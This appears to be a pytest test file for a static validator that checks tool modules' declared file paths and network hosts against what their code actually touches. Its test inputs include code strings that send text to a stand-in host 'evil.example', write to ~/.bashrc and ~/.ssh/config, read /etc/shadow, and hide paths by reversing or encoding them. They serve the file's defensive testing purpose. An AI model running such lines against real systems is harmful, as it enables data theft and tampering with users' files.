"""Constant paths and hosts of a module's text against its `Effects:` (ADR 33)."""

import pytest

from pulsus.core.validators.effects import constant_targets
from pulsus.core.validators.effects.effect_uses import find_uses
from tests.candidates import tool_of

HEAD = '''"""Tell.

Kind: {kind}
Effects:
    paths: {paths}
    hosts: {hosts}
    commands: none
"""
import os
import shutil
import socket
from pathlib import Path
from urllib.request import urlopen

BASE = "/srv/data"
HOST = "example.org"


def run(text: str, dry_run: bool = False) -> dict[str, bool]:
    """Tell."""
    {code}
    return {{"ok": True}}
'''


def _judged(code, *, kind="read", paths="none", hosts="none"):
    text = HEAD.format(kind=kind, paths=paths, hosts=hosts, code=code)
    if kind == "read":
        text = text.replace(", dry_run: bool = False", "")
    return constant_targets.judge_source(tool_of(text), constant_targets.read_index(text.encode()))


@pytest.mark.parametrize(
    ("code", "seen"),
    [
        ('open("/etc/motd", "w")', "/etc/motd"),
        ('open("/etc/motd", mode="a")', "/etc/motd"),
        ('open("/etc/" + "motd", "wb")', "/etc/motd"),
        ('open(f"{BASE}/x", "x")', "/srv/data/x"),
        ('open(os.path.join(BASE, "x", "y"), "r+")', "/srv/data/x/y"),
        ('os.open("/etc/motd", os.O_WRONLY | os.O_CREAT)', "/etc/motd"),
        ('Path("/etc/motd").write_text(text)', "/etc/motd"),
        ('(Path("/etc") / "motd").write_bytes(b"")', "/etc/motd"),
        ('Path(BASE, "x").joinpath("y").unlink()', "/srv/data/x/y"),
        ('(Path.home() / ".bashrc").open("a")', "~/.bashrc"),
        ('Path("~/.ssh/config").expanduser().touch()', "~/.ssh/config"),
        ('os.remove("/var/x")', "/var/x"),
        ('os.rename("/var/x", "/var/y")', "/var/y"),
        ('shutil.rmtree("/var/" "x")', "/var/x"),
        ('shutil.copy(text, "/var/x")', "/var/x"),
        ('open("dtom/cte/"[::-1], "w")', "/etc/motd"),
        ('open("".join(["/etc", "/motd"]), "w")', "/etc/motd"),
        ('open(chr(47) + "etc/motd", "w")', "/etc/motd"),
        ('open(b"/etc/motd".decode(), "w")', "/etc/motd"),
        ('open("/tmp/../etc/motd", "w")', "/etc/motd"),
    ],
)
def test_a_constant_path_that_is_changed_and_not_declared_refuses(code, seen):
    found, _ = _judged(code)
    assert any(seen in item and "in line 21" in item for item in found.exceeded)


@pytest.mark.parametrize(
    ("code", "seen"),
    [
        ('urlopen("https://evil.example/x?" + text)', "evil.example:443"),
        ('urlopen("https://evil.example/{}".format(text))', "evil.example:443"),
        ('urlopen(f"https://evil.example/{text}")', "evil.example:443"),
        ('urlopen(f"http://{HOST}/x")', "example.org:80"),
        ('socket.create_connection(("10.0.0.1", 80))', "10.0.0.1:80"),
        ("socket.socket().connect((HOST, 22))", "example.org:22"),
        ('socket.getaddrinfo("evil.example", 80)', "evil.example:80"),
        ('requests.post("https://evil.example", data=text)', "evil.example:443"),
        ('http.client.HTTPSConnection("evil.example")', "evil.example"),
        ('ProxyHandler({"http": "http://evil.example:3128"})', "evil.example:3128"),
        ('urllib.request.Request(text).set_proxy("evil.example", "http")', "evil.example"),
    ],
)
def test_a_constant_host_that_is_not_declared_refuses(code, seen):
    found, _ = _judged(code)
    assert any(f"reaches {seen}" in item for item in found.exceeded)
    assert not _judged(code, hosts=seen.rpartition(":")[0] or seen)[0].exceeded


@pytest.mark.parametrize(
    "code",
    [
        'open("/dev/null", "w")',
        'text.replace("/etc", "/x")',
        '"/etc/motd".replace("/etc", "/x")',
        'dict(a=1).get("http://x.example/")',
        'print("/etc/motd", "w")',
        'open("/etc/motd")',
        'Path("/etc/motd").exists()',
        'x = "https://docs.example/help"',
    ],
)
def test_code_without_effects_is_accepted(code):
    assert not _judged(code)[0].exceeded


def test_a_declared_change_of_a_write_tool_is_accepted():
    assert not _judged('open("/srv/data/x", "w")', kind="write", paths="/srv/data")[0].exceeded
    assert _judged('open("/srv/other", "w")', kind="write", paths="/srv/data")[0].exceeded


@pytest.mark.parametrize(
    ("above", "code"),
    [
        ('class Kept:\n    base = Path("/srv/x")', '(Kept.base / "a").write_text(text)'),
        ('class Kept:\n    base = "/srv/x"', 'open(os.path.join(Kept().base, "a"), "w")'),
        (
            "from enum import Enum\nclass Kept(Enum):\n    BASE = '/srv/x'",
            "open(Kept.BASE.value, 'w')",
        ),
        (
            "from dataclasses import dataclass\n@dataclass\nclass Kept:\n    base: str = '/srv/x'",
            "open(Kept().base, 'w')",
        ),
        ('def put(where="/srv/x"):\n    open(where, "w")', "put()"),
        ('def put(*, where="/srv/x"):\n    Path(where).touch()', "put()"),
        ('ALL = ("/tmp/x", "/srv/x")', 'for each in ALL:\n        open(each, "w")'),
        ("", 'for each in ["/tmp/x", "/srv/x"]:\n        open(each, "w")'),
        ('ALL = {"a": "/srv/x"}', 'open(ALL["a"], "w")'),
        ("", 'place = text\n    if text:\n        place = "/srv/x"\n    open(place, "w")'),
        ("", 'place = "/srv/x"\n    open(place, "w")\n    [place for place in ()]'),
    ],
)
def test_a_constant_that_a_name_may_hold_is_compared(above, code):
    text = HEAD.format(kind="write", paths="/var/own", hosts="none", code=code) + f"\n\n{above}\n"
    assert any(
        "/srv/x" in i
        for i in constant_targets.judge_source(
            tool_of(text), constant_targets.read_index(text.encode())
        )[0].exceeded
    )


@pytest.mark.parametrize(
    ("above", "code"),
    [
        ('def put(where="/srv/x"):\n    open(where, "w")', "put(text)"),
        (
            "from dataclasses import dataclass\n@dataclass\nclass Kept:\n    base: str = '/srv/x'",
            "open(Kept(base=text).base, 'w')",
        ),
        ('def put(where="/srv/x"):\n    return open(where)', "put()"),
    ],
)
def test_a_default_that_every_call_replaces_is_not_judged(above, code):
    text = HEAD.format(kind="write", paths="/var/own", hosts="none", code=code) + f"\n\n{above}\n"
    assert not constant_targets.judge_source(
        tool_of(text), constant_targets.read_index(text.encode())
    )[0].exceeded


def test_tables_that_double_each_other_are_read_in_the_time_of_their_size():
    tables = "\n".join(f"T{n} = {{1: T{n - 1}[1] + T{n - 1}[1]}}" for n in range(1, 900))
    code = f'T0 = {{1: T0[1] + T0[1]}}\n{tables}\nopen(T899[1], "w")'
    text = HEAD.format(kind="write", paths="/var/own", hosts="none", code="pass") + code
    assert not constant_targets.judge_source(
        tool_of(text), constant_targets.read_index(text.encode())
    )[0].exceeded


@pytest.mark.parametrize(
    "code",
    ['open("/etc/shadow")', 'Path("/etc/shadow").read_text()', 'os.listdir("/etc/shadow")'],
)
def test_a_constant_path_that_is_read_and_not_declared_is_a_warning(code):
    found, warnings = _judged(code)
    assert not found.exceeded
    assert "/etc/shadow" in warnings[0]
    assert not _judged(code, paths="/etc/shadow")[1]


def test_a_module_without_effects_is_left_to_the_dry_run():
    text = '"""Tell."""\ndef run():\n    open("/etc/motd", "w")\n'
    assert not constant_targets.judge_source(
        tool_of(text), constant_targets.read_index(text.encode())
    )[0].exceeded


@pytest.mark.parametrize(
    ("line", "host"),
    [
        ("asyncio.open_connection(port=8443, host='c.example')", "c.example:8443"),
        ("http.client.HTTPSConnection(host='c.example')", "c.example"),
        ("webbrowser.open('http://c.example/?q=' + text)", "c.example:80"),
    ],
)
def test_a_host_named_by_keyword_or_shown_in_a_browser_is_found(line, host):
    assert (
        host
        in constant_targets.find_constant_targets(f"def run(text):\n    {line}\n".encode()).hosts
    )


@pytest.mark.parametrize("place", [":memory:", "file:x?mode=memory", "notes.db"])
def test_a_database_file_is_no_host(place):
    assert (
        constant_targets.find_constant_targets(
            f"import sqlite3\nsqlite3.connect({place!r})\n".encode()
        ).hosts
        == {}
    )


@pytest.mark.parametrize(
    "line",
    ["A{n} = A{m} + A{m}", 'A{n} = f"{{A{m}}}{{A{m}}}"', "A{n} = A{m} | A{m}", "A{n} = A{m}"],
)
def test_names_that_double_each_other_are_read_in_the_time_of_their_size(line):
    doubled = "\n".join(line.format(n=n, m=n - 1) for n in range(1, 2000))
    text = f'import os\nA0 = ""\n{doubled}\nos.open(A1999, A1999)\nopen("/etc/motd", "w")\n'
    assert "/etc/motd" in constant_targets.find_constant_targets(text.encode()).changed
    assert [use.name for use in find_uses(constant_targets.read_index(text.encode()))][-1:] == [
        "builtins.open with a mode that writes"
    ]


def test_a_path_behind_a_long_chain_of_names_is_folded():
    chain = "\n".join(f"A{n} = A{n - 1}" for n in range(1, 200))
    text = f'A0 = "/etc/motd"\n{chain}\nopen(A199, "w")\n'
    assert "/etc/motd" in constant_targets.find_constant_targets(text.encode()).changed
